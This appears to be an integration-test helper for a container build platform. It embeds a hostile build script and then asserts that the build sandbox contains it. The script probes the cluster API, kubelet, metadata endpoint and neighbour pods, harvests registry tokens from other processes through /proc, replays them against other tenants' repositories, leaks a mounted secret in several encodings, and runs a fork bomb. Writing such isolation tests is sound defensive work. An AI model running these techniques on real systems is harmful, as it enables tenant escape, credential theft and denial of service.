/** A build that attacks all that it can reach: the cluster, other tenants, the registry, the machine, and its own log. */
import { randomBytes } from "node:crypto";
import { expect } from "vitest";
import { addresses, buildsRegistryHost, ports } from "../../../hack/cluster/addresses.ts";
import { type apiClient, createProject, httpProject, uniqueName, untilStatus } from "./api.ts";
import { createGitProject, readLog, untilEnded } from "./builds.ts";
import { cluster } from "./cluster.ts";
import { connectRepository, createRepository, type Repository } from "./git.ts";
import { systemNamespace } from "./operator.ts";
import { namespaceOf, stack } from "./stack.ts";

const canary = `canary-${randomBytes(12).toString("hex")}`;

/** Runs in the build, as root of its own user namespace, and prints what it could do, a line of JSON each. */
const attack = `
const { connect } = require("node:net");
const { readdirSync, readFileSync } = require("node:fs");
const { spawn } = require("node:child_process");
const { request } = require("node:https");
const { get } = require("node:http");
const say = (what, result) => console.log("ATTACK " + JSON.stringify({ what, result }));
const reach = ([name, host, port]) => new Promise((done) => {
  const socket = connect({ host, port, timeout: 2000 });
  const end = (result) => { socket.destroy(); say(name, result); done(); };
  socket.on("connect", () => end("reached")).on("timeout", () => end("blocked")).on("error", () => end("blocked"));
});
const tokens = () => {
  const found = new Set();
  for (const id of readdirSync("/proc").filter((entry) => /^[0-9]+$/.test(entry))) {
    for (const file of ["/secrets/registry/config.json"]) {
      try {
        for (const one of Object.values(JSON.parse(readFileSync("/proc/" + id + "/root" + file, "utf8")).auths)) found.add(one.registrytoken);
      } catch {}
    }
  }
  return [...found];
};
const ask = (repository, token) => new Promise((done) => {
  const url = "https://${buildsRegistryHost}/v2/" + repository + "/tags/list";
  const headers = token ? { authorization: "Bearer " + token } : {};
  request(url, { headers, rejectUnauthorized: false }, (answer) => { answer.resume(); done(answer.statusCode); })
    .on("error", (error) => done(error.code)).end();
});
// A builder may have a registry of its own there, which knows a token.
const loopback = () => readFileSync("/proc/net/tcp", "utf8").split("\\n").slice(1)
  .map((line) => line.trim().split(" "))
  .filter(([, address = "", , state]) => state === "0A" && address.startsWith("0100007F:"))
  .map(([, address]) => Number.parseInt(address.split(":")[1], 16));
const askPlainly = (port, path) => new Promise((done) => {
  get({ host: "127.0.0.1", port, path }, (answer) => { answer.resume(); done(answer.statusCode); })
    .on("error", (error) => done(error.code));
});
const bomb = () => new Promise((done) => {
  const children = [];
  const more = () => {
    if (children.length >= 4000) return stop("never stopped");
    const child = spawn("sleep", ["60"], { stdio: "ignore" });
    child.on("error", () => stop("stopped"));
    child.on("spawn", () => { children.push(child); more(); });
  };
  const stop = (result) => { for (const child of children) child.kill("SIGKILL"); done(result); };
  more();
});
(async () => {
  const { targets, repositories } = JSON.parse(readFileSync("targets.json", "utf8"));
  for (const target of targets) await reach(target);
  const stolen = [undefined, ...tokens()];
  say("tokens", stolen.length - 1);
  for (const repository of repositories) {
    const statuses = [];
    for (const token of stolen) statuses.push(await ask(repository, token));
    say("registry " + repository, statuses);
  }
  const near = [];
  for (const port of loopback()) {
    for (const path of ["/v2/_catalog", ...repositories.slice(1).map((name) => "/v2/" + name + "/manifests/latest")])
      near.push(await askPlainly(port, path));
  }
  say("loopback", near);
  const secret = readFileSync("/run/secrets/CANARY", "utf8");
  console.log("RAW " + secret);
  console.log("BASE64 " + Buffer.from(secret).toString("base64"));
  console.log("URL " + encodeURIComponent(secret) + " " + secret);
  say("secret", secret.length);
  say("fork bomb", await bomb());
  process.exit(66);
})();
`;

/**
 * Builds it, and checks all that it could do.
 * @param leaves takes what is to be removed: projects by their ids, and the repository
 * @returns the build's log
 */
export async function attackBuild(
  call: ReturnType<typeof apiClient>,
  leaves: (made: string | Repository) => void,
): Promise<readonly string[]> {
  const victim = await createProject(call, httpProject(uniqueName("victim")));
  leaves(victim.project_id);
  await untilStatus(call, victim.project_id, "running");
  const addressOf = async (namespace: string, labelSelector: string): Promise<string> => {
    const { items } = await cluster.core.listNamespacedPod({ namespace, labelSelector });
    const address = items.find(({ status }) => status?.phase === "Running")?.status?.podIP;
    // An address that was not found would make the refusal below meaningless.
    if (address === undefined) {
      throw new Error(`no pod ${labelSelector} runs in ${namespace}`);
    }
    return address;
  };
  const neighbour = await addressOf(
    namespaceOf(stack.organization),
    `slipway.dev/project=${victim.project_id}`,
  );
  const apiServer = await addressOf(systemNamespace, "app.kubernetes.io/name=slipway-api-server");
  const ledger = await addressOf(systemNamespace, "app.kubernetes.io/name=slipway-ledger");
  const forbidden: [string, string, number][] = [
    ["apiserver", "10.96.0.1", 443],
    ["apiserver on the node", addresses.node, ports.apiserver],
    ["kubelet", addresses.node, ports.kubelet],
    ["metadata", "169.254.169.254", 80],
    ["neighbour", neighbour, 8080],
    ["API server", apiServer, 8080],
    ["ledger", ledger, 5432],
  ];
  const [host = "", port] = buildsRegistryHost.split(":");
  const allowed: [string, string, number] = ["registry", host, Number(port)];
  const repositories = ["base/node", `${stack.organization}/${victim.project_id}`, "someone-else/shop"];
  const repository = await createRepository(uniqueName("hostile"), {
    "attack.js": attack,
    "targets.json": JSON.stringify({ targets: [allowed, ...forbidden], repositories }),
    Dockerfile: `FROM ${buildsRegistryHost}/base/node:24
USER 0
WORKDIR /app
COPY . .
RUN --mount=type=secret,id=CANARY node attack.js
`,
  });
  leaves(repository);
  const { project_id: id, build_id } = await createGitProject(
    call,
    uniqueName("hostile"),
    await connectRepository(repository),
    {
      source: { auto_deploy: false },
      build: { runtime: "dockerfile", version: undefined, start_command: undefined },
      config: { envs: [{ name: "CANARY", value: canary }] },
    },
  );
  leaves(id);
  const ended = await untilEnded(call, id, build_id);
  const lines = (await readLog(call, id, build_id)).map(({ message }) => message);
  const log = lines.join("\n");
  expect(ended, log).toMatchObject({ status: "failed", error_code: "BUILD_COMMAND_FAILED" });
  const results = new Map(
    lines.flatMap((line) => {
      const json = /ATTACK (\{.*\})/.exec(line)?.[1];
      const finding =
        json === undefined ? undefined : (JSON.parse(json) as { what: string; result: unknown });
      return finding === undefined ? [] : [[finding.what, finding.result] as const];
    }),
  );

  expect(results.get("registry"), log).toBe("reached");
  for (const [name] of forbidden) {
    expect([name, results.get(name)]).toEqual([name, "blocked"]);
  }
  // Whatever tokens it may have found: base images are all that they open.
  for (const name of repositories.slice(1)) {
    const statuses = results.get(`registry ${name}`) as number[];
    expect(statuses.length).toBeGreaterThan(0);
    for (const status of statuses) {
      expect([401, 403]).toContain(status);
    }
  }
  // And so does what listens beside it.
  for (const status of results.get("loopback") as number[]) {
    expect([401, 403, 404, 405]).toContain(status);
  }
  expect(results.get("fork bomb")).toBe("stopped");

  // It had the secret, and printed it in every form.
  expect(results.get("secret")).toBe(canary.length);
  expect(lines.filter((line) => /RAW|BASE64|URL /.test(line)).length).toBeGreaterThanOrEqual(3);
  expect(log).not.toContain(canary);
  expect(log).not.toContain(Buffer.from(canary).toString("base64"));
  return lines;
}
